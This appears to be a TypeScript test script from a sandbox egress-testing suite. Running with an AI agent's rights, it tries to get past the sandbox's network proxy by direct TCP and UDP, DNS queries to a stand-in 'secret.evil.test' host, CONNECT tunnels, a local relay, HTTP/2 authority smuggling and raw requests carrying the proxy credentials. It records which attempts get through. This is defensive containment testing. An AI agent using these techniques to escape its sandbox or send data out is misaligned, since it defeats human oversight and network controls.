import { createSocket } from "node:dgram";
import { lookup } from "node:dns/promises";
import { connect as connectHttp2 } from "node:http2";
import { connect, createServer, type AddressInfo } from "node:net";
import { exchange, rawConnect, rawConnection, rawTls, statusOf } from "../helpers/raw-http.ts";
import type { Attack, Finding } from "./bottle-attacks.ts";

/** Runs in a bottle with the agent's rights. Its last argument holds the attacks; what became of them is what it prints. */
const PROXY_PORT = 7001;
const DIRECT_MS_MAX = 3_000;
const TEXT_MAX = 4_000;
/** As many as a browser would have open. */
const AT_ONCE = 8;

const attacks: readonly Attack[] = JSON.parse(process.argv.at(-1) ?? "[]");
const own = decodeURIComponent(/\/\/(.*)@/.exec(process.env["HTTPS_PROXY"] ?? "")?.[1] ?? "");

async function attempt(attack: Attack): Promise<Finding> {
  switch (attack.kind) {
    case "tcp":
      return tcp(attack);
    case "udp":
      return udp(attack);
    case "lookup": {
      const { address } = await lookup(attack.name);
      return { through: true, text: address };
    }
    case "tunnel":
      return tunnel(attack);
    case "http2":
      return http2(attack);
    case "bytes": {
      const login = `Proxy-Authorization: Basic ${Buffer.from(own).toString("base64")}\r\n`;
      return answer(await exchange(await rawConnection(PROXY_PORT), attack.bytes.replace("{login}", login)));
    }
  }
}

function tcp({ host, port }: { host: string; port: number }): Promise<Finding> {
  return new Promise((resolve) => {
    const socket = connect({ host, port, timeout: DIRECT_MS_MAX });
    const end = (finding: Finding): void => {
      socket.destroy();
      resolve(finding);
    };
    socket.on("connect", () => end({ through: true }));
    socket.on("timeout", () => end({ error: "ETIMEDOUT" }));
    socket.on("error", (error) => end({ error: codeOf(error) }));
  });
}

function udp({ host, port, name = "secret.evil.test", type = 1 }: Attack & { kind: "udp" }): Promise<Finding> {
  return new Promise((resolve) => {
    const socket = createSocket(host.includes(":") ? "udp6" : "udp4");
    const end = (finding: Finding): void => {
      clearTimeout(timeout);
      socket.close();
      resolve(finding);
    };
    const timeout = setTimeout(() => end({ error: "ETIMEDOUT" }), DIRECT_MS_MAX);
    socket.on("error", (error) => end({ error: codeOf(error) }));
    socket.on("message", () => end({ through: true }));
    // Connected, so that the kernel says at once when nobody is there.
    socket.on("connect", () => socket.send(question(name, type)));
    socket.connect(port, host);
  });
}

function question(name: string, type: number): Buffer {
  const labels = name.split(".").map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)]));
  const [head, tail] = [Buffer.from("000101000001000000000000", "hex"), Buffer.alloc(5)];
  tail.writeUInt16BE(type, 1);
  tail.writeUInt16BE(1, 3);
  return Buffer.concat([head, ...labels, tail]);
}

async function tunnel(attack: Attack & { kind: "tunnel" }): Promise<Finding> {
  const { authority, serverName, request, credentials } = attack;
  const port = attack.relayed === true ? await relay() : PROXY_PORT;
  const { status, socket, text } = await rawConnect(port, { authority, credentials: credentials ?? own });
  try {
    if (status !== 200) return { ...answer(text), connect: status, status: 0 };
    const host = authority.slice(0, authority.lastIndexOf(":"));
    const tls = await rawTls(socket, serverName === false ? {} : { serverName: serverName ?? host });
    if (tls === undefined) return { connect: status, status: 0, text: "" };
    const get = `GET / HTTP/1.1\r\nHost: ${authority}\r\nConnection: close\r\n\r\n`;
    return { connect: status, ...answer(await exchange(tls, request ?? get)) };
  } finally {
    socket.destroy();
  }
}

/** A proxy before the proxy; it goes with this process. */
function relay(): Promise<number> {
  return new Promise((resolve) => {
    const server = createServer((from) => {
      const to = connect({ port: PROXY_PORT, host: "127.0.0.1" });
      from.on("error", () => to.destroy()).pipe(to);
      to.on("error", () => from.destroy()).pipe(from);
    });
    server.listen(0, "127.0.0.1", () => resolve((server.address() as AddressInfo).port));
  });
}

async function http2({ authority, inner }: Attack & { kind: "http2" }): Promise<Finding> {
  const { socket } = await rawConnect(PROXY_PORT, { authority, credentials: own });
  const host = authority.slice(0, authority.lastIndexOf(":"));
  const tls = await rawTls(socket, { serverName: host, alpn: ["h2"] });
  if (tls === undefined) return { error: "no TLS with HTTP/2" };
  const session = connectHttp2(`https://${authority}`, { createConnection: () => tls });
  try {
    return await new Promise<Finding>((resolve, reject) => {
      const stream = session.request({ ":path": "/", ":authority": inner });
      let [status, text] = [0, ""];
      stream.on("response", (headers) => (status = Number(headers[":status"])));
      stream.on("data", (chunk: Buffer) => (text += chunk.toString("latin1")));
      stream.on("error", reject).on("end", () => resolve({ ...answer(text), status }));
      stream.end();
    });
  } finally {
    session.destroy();
  }
}

function answer(text: string): Finding {
  const rule = /"rule":"([^"]*)"/.exec(text)?.[1];
  return { status: statusOf(text), text: text.slice(0, TEXT_MAX), ...(rule === undefined ? {} : { rule }) };
}

function codeOf(error: unknown): string {
  if (!(error instanceof Error)) return "unknown";
  return "code" in error ? String(error.code) : error.message;
}

/** In order, some at a time. */
async function run(): Promise<Finding[]> {
  const found: Finding[] = [];
  const left = [...attacks.entries()];
  const worker = async (): Promise<void> => {
    for (let next = left.shift(); next !== undefined; next = left.shift()) {
      const [index, attack] = next;
      found[index] = await attempt(attack).catch((error: unknown) => ({ error: codeOf(error) }));
    }
  };
  await Promise.all(Array.from({ length: AT_ONCE }, worker));
  return found;
}

void run().then((found) => process.stdout.write(JSON.stringify(found), () => process.exit(0)));
